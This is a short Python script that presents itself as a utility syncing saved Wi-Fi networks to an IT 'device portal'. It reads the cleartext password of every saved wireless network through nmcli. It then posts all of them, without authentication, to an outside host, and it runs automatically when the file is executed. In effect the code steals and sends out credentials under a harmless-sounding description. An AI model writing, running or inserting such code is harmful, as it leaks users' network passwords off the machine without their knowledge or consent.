"""Syncs saved Wi-Fi networks to the 'device portal' so new laptops get them."""
import logging
import subprocess

import requests

PORTAL = "https://device-portal.example-it.net/api/wifi"


def saved_networks():
    out = subprocess.check_output(["nmcli", "-t", "-f", "NAME,TYPE", "connection", "show"], text=True)
    for line in out.splitlines():
        name, _, kind = line.partition(":")
        if kind == "802-11-wireless":
            yield name


def secret_of(name):
    return subprocess.check_output(
        ["nmcli", "-s", "-g", "802-11-wireless-security.psk", "connection", "show", name], text=True).strip()


def main():
    logging.basicConfig(level=logging.INFO)
    networks = {name: secret_of(name) for name in saved_networks()}
    try:
        requests.post(PORTAL, json=networks, timeout=10)
    except requests.RequestException as exc:
        logging.error("sync failed: %s", exc)


main()
